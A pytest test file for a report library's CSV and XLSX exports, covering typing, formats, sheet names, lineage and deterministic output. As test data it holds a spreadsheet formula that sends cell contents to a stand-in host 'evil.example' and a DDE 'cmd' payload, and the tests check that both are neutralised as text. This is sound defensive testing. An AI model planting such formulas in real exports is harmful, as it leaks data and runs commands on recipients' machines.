"""CSV and XLSX exports, read back: values, types, formats, formula safety and determinism."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal

import openpyxl
import pandas as pd
import pytest

from reportgen.errors import InternalError, InvalidInput, QueryTooLarge
from reportgen.rendering.exports import (
    ExportColumn,
    ExportTable,
    sheet_names,
    to_csv,
    to_xlsx,
)

CREATED = datetime(2026, 10, 31, 6, 30, tzinfo=UTC)
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'

SALES_COLUMNS = (
    ExportColumn("region", "Region", "text"),
    ExportColumn("orders", "Orders", "integer"),
    ExportColumn("revenue", "Revenue", "currency"),
    ExportColumn("margin", "Margin", "number"),
    ExportColumn("share", "Share", "percent"),
    ExportColumn("day", "Day", "date"),
    ExportColumn("loaded_at", "Loaded at", "datetime"),
    ExportColumn("certified", "Certified", "boolean"),
)


def sales_frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "region": ["EMEA", 'Zürich, "Nord"\nsite', HOSTILE, None],
            "orders": [1200, -3, 0, None],
            "revenue": [1234567.5, -1234.5, 0.0, 10.0],
            "margin": [0.5, -2.25, None, 1e-7],
            "share": [0.125, -0.05, 1.0, None],
            "day": pd.to_datetime(["2026-01-31", "2026-02-01", "2026-02-02", pd.NaT]),
            "loaded_at": pd.to_datetime(
                ["2026-01-31 09:15:00", "2026-02-01 23:59:59", "2026-02-02 00:00:00", pd.NaT]
            ),
            "certified": [True, False, True, None],
        }
    )


def sales_table(title: str = "Sales by region") -> ExportTable:
    return ExportTable("sales", title, SALES_COLUMNS, sales_frame())


def read_csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


LINEAGE = [
    {
        "id": "q-1",
        "dataset": "sales",
        "dataset_version": "v-abc123",
        "sql": "SELECT region, SUM(amount)\nFROM sales\nWHERE region = ?\nGROUP BY 1",
        "params": "EMEA",
        "rows": "4",
        "result_sha256": "a" * 64,
    },
    {"id": "q-2", "dataset": "tickets", "rows": "12", "note": "=cmd|' /C calc'!A0"},
]


def build_xlsx(tables: list[ExportTable] | None = None, **options: object) -> bytes:
    return to_xlsx(
        tables if tables is not None else [sales_table()],
        lineage=LINEAGE,
        title="Executive summary",
        created=CREATED,
        **options,  # type: ignore[arg-type]
    )


def load(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


# --- CSV ---------------------------------------------------------------------------------------


def test_csv_is_utf8_with_bom_crlf_and_labelled_header() -> None:
    data = to_csv(sales_table())

    assert data.startswith(b"\xef\xbb\xbfRegion,Orders,Revenue,Margin,Share,Day,Loaded at,")
    assert data.count(b"\r\n") == 5  # header and 4 rows; the line break inside a cell stays LF
    assert to_csv(sales_table(), bom=False).startswith(b"Region,")


def test_csv_values_read_back() -> None:
    rows = read_csv_rows(to_csv(sales_table()))

    assert rows[1] == [
        "EMEA", "1200", "1234567.5", "0.5", "0.125", "2026-01-31", "2026-01-31 09:15:00", "TRUE",
    ]  # fmt: skip
    assert rows[2][0] == 'Zürich, "Nord"\nsite'  # RFC 4180 quoting round-trips
    assert rows[4] == ["", "", "10.0", "1e-07", "", "", "", ""]  # missing values are empty


def test_csv_quotes_per_rfc_4180() -> None:
    data = to_csv(sales_table())

    assert '"Zürich, ""Nord""\nsite"'.encode() in data


@pytest.mark.parametrize(
    "text", ["=1+1", "+41 44 000 00 00", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", HOSTILE]
)
def test_csv_neutralises_formula_text(text: str) -> None:
    frame = pd.DataFrame({"note": [text]})
    table = ExportTable("t", "T", (ExportColumn("note", "Note", "text"),), frame)

    assert read_csv_rows(to_csv(table))[1] == ["'" + text]


def test_csv_never_alters_real_numbers() -> None:
    frame = pd.DataFrame(
        {
            "amount": [-1234.5, -0.01],
            "count": [-3, -7],
            "exact": [Decimal("-1000.10"), Decimal("-2")],
            "mixed": [-5, "-5"],  # a real number, then text that merely starts with '-'
        }
    )
    columns = (
        ExportColumn("amount", "Amount", "currency"),
        ExportColumn("count", "Count", "integer"),
        ExportColumn("exact", "Exact", "number"),
        ExportColumn("mixed", "Mixed", "text"),
    )
    rows = read_csv_rows(to_csv(ExportTable("t", "T", columns, frame)))

    assert rows[1] == ["-1234.5", "-3", "-1000.10", "-5"]
    assert rows[2] == ["-0.01", "-7", "-2", "'-5"]
    assert float(rows[1][0]) == -1234.5


def test_csv_neutralises_labels_and_keeps_unicode() -> None:
    frame = pd.DataFrame({"city": ["東京", "São Paulo", "Kraków €"]})
    table = ExportTable("t", "T", (ExportColumn("city", "=Ville ✓", "text"),), frame)
    data = to_csv(table)

    assert read_csv_rows(data) == [["'=Ville ✓"], ["東京"], ["São Paulo"], ["Kraków €"]]
    assert "Kraków €".encode() in data


def test_csv_writes_aware_datetimes_in_utc() -> None:
    paris = timezone(timedelta(hours=2))
    frame = pd.DataFrame({"at": [datetime(2026, 6, 1, 12, 0, tzinfo=paris)]})
    table = ExportTable("t", "T", (ExportColumn("at", "At", "datetime"),), frame)

    assert read_csv_rows(to_csv(table))[1] == ["2026-06-01 10:00:00"]


def test_csv_is_deterministic() -> None:
    assert to_csv(sales_table()) == to_csv(sales_table())


def test_export_table_refuses_columns_the_frame_lacks() -> None:
    with pytest.raises(InternalError, match=r"no data for columns \['missing'\]"):
        ExportTable("t", "T", (ExportColumn("missing", "M", "text"),), pd.DataFrame({"a": [1]}))


# --- XLSX: sheets ------------------------------------------------------------------------------


def test_sheet_names_are_safe_unique_and_short() -> None:
    names = sheet_names(
        [
            "Sales: by [region]?",
            "sales BY region",
            "A" * 40,
            "A" * 40,
            "'quoted'",
            "Lineage",
            "history",
            "",
            "a/b\\c*d",
        ]
    )

    assert names == [
        "Sales by region",
        "sales BY region (2)",
        "A" * 31,
        "A" * 27 + " (2)",
        "quoted",
        "Lineage (2)",
        "history (2)",
        "Table 8",
        "a b c d",
    ]
    assert len({name.lower() for name in names}) == len(names)
    assert sheet_names(["😀" * 40]) == ["😀" * 15]  # Excel counts UTF-16 units: 2 per emoji


def test_xlsx_has_one_sheet_per_table_then_lineage() -> None:
    tables = [sales_table("Sales: by [region]?"), sales_table("Sales by region"), sales_table("")]
    book = load(build_xlsx(tables))

    assert book.sheetnames == ["Sales by region", "Sales by region (2)", "sales", "Lineage"]


# --- XLSX: cells -------------------------------------------------------------------------------


def test_xlsx_cells_are_typed_and_formatted() -> None:
    sheet = load(build_xlsx()).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    emea = dict(zip(header, sheet[2], strict=True))

    assert header == [column.label for column in SALES_COLUMNS]
    assert all(cell.font.b for cell in sheet[1])
    assert emea["Region"].value == "EMEA"
    assert (emea["Orders"].value, emea["Orders"].number_format) == (1200, "#,##0")
    assert emea["Revenue"].value == 1234567.5
    assert emea["Revenue"].number_format.startswith('"$"#,##0.00')
    assert (emea["Margin"].value, emea["Margin"].number_format) == (0.5, "#,##0.00")
    assert (emea["Share"].value, emea["Share"].number_format) == (0.125, "0.0%")
    assert emea["Day"].value == datetime(2026, 1, 31)
    assert emea["Day"].number_format == "yyyy-mm-dd"
    assert emea["Loaded at"].value == datetime(2026, 1, 31, 9, 15)
    assert emea["Loaded at"].number_format == "yyyy-mm-dd hh:mm:ss"
    assert emea["Certified"].value is True
    assert sheet["C3"].value == -1234.5  # a negative amount stays a number
    assert sheet["A3"].value == 'Zürich, "Nord"\nsite'
    assert [cell.value for cell in sheet[5]] == [None, None, 10, 1e-7, None, None, None, None]


def test_xlsx_hostile_formula_stays_a_string() -> None:
    data = build_xlsx()
    cell = load(data).worksheets[0]["A4"]

    assert cell.value == HOSTILE
    assert cell.data_type == "s"
    assert cell.quotePrefix  # stays text even when someone edits the cell
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name)


def test_xlsx_header_is_frozen_filtered_and_columns_sized() -> None:
    sheet = load(build_xlsx()).worksheets[0]

    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:H5"
    widths = {letter: sheet.column_dimensions[letter].width for letter in "ABCDEFGH"}
    assert all(6 <= width <= 61 for width in widths.values()), widths
    assert widths["A"] > widths["H"]  # the long region text is wider than TRUE/FALSE
    assert widths["C"] >= len("$1,234,567.50")


@pytest.mark.parametrize(
    ("currency", "expected"),
    [("EUR", '"€"#,##0.00;-"€"#,##0.00'), ("JPY", '"¥"#,##0;-"¥"#,##0'), ("CHF", '"CHF "#,##0.00')],
)
def test_xlsx_currency_format_shows_the_symbol(currency: str, expected: str) -> None:
    sheet = load(build_xlsx(currency=currency)).worksheets[0]

    assert sheet["C2"].number_format.startswith(expected)


def test_xlsx_refuses_unknown_currency() -> None:
    with pytest.raises(InvalidInput, match="ISO 4217"):
        build_xlsx(currency="XYZ")


def test_xlsx_refuses_a_table_larger_than_a_sheet() -> None:
    frame = pd.DataFrame({"n": range(1_048_576)})
    table = ExportTable("big", "Big", (ExportColumn("n", "N", "integer"),), frame)

    with pytest.raises(QueryTooLarge, match="Export it as CSV"):
        build_xlsx([table])


def test_xlsx_writes_an_empty_table_as_a_header() -> None:
    table = ExportTable("t", "Empty", SALES_COLUMNS, sales_frame().iloc[0:0])
    sheet = load(build_xlsx([table]))["Empty"]

    assert sheet.max_row == 1
    assert sheet["A1"].value == "Region"


# --- XLSX: lineage -----------------------------------------------------------------------------


def test_xlsx_lineage_sheet_lists_every_query() -> None:
    sheet = load(build_xlsx())["Lineage"]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]

    assert rows[0][:2] == ["Report", "Executive summary"]
    assert rows[1][:2] == ["Generated at (UTC)", datetime(2026, 10, 31, 6, 30)]
    assert rows[3] == [
        "Query", "Dataset", "Dataset version", "SQL",
        "Parameters", "Rows", "Result SHA-256", "Note",
    ]  # fmt: skip
    assert rows[4] == ["q-1", "sales", "v-abc123", LINEAGE[0]["sql"], "EMEA", 4, "a" * 64, None]
    assert rows[5][:2] == ["q-2", "tickets"]
    assert rows[5][5] == 12
    assert sheet["H6"].data_type == "s"
    assert sheet["H6"].value == "=cmd|' /C calc'!A0"
    assert sheet.freeze_panes == "A5"


# --- XLSX: determinism -------------------------------------------------------------------------


def test_xlsx_bytes_are_deterministic() -> None:
    first, second = build_xlsx(), build_xlsx()

    assert first == second
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        assert {info.date_time for info in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        core = archive.read("docProps/core.xml").decode()
    assert '<dcterms:created xsi:type="dcterms:W3CDTF">2026-10-31T06:30:00Z<' in core
    assert "<dc:title>Executive summary</dc:title>" in core


def test_xlsx_stamp_comes_from_created_only() -> None:
    later = to_xlsx(
        [sales_table()], lineage=LINEAGE, title="Executive summary", created=CREATED + timedelta(1)
    )
    local = to_xlsx(
        [sales_table()],
        lineage=LINEAGE,
        title="Executive summary",
        created=CREATED.astimezone(timezone(timedelta(hours=-5))),
    )

    assert later != build_xlsx()
    assert local == build_xlsx()  # the same instant in another zone is the same file


def test_xlsx_dates_read_back_as_dates_not_text() -> None:
    frame = pd.DataFrame({"d": [date(2026, 3, 1)]})
    table = ExportTable("t", "T", (ExportColumn("d", "Day", "date"),), frame)
    cell = load(build_xlsx([table]))["T"]["A2"]

    assert cell.is_date
    assert cell.value == datetime(2026, 3, 1)
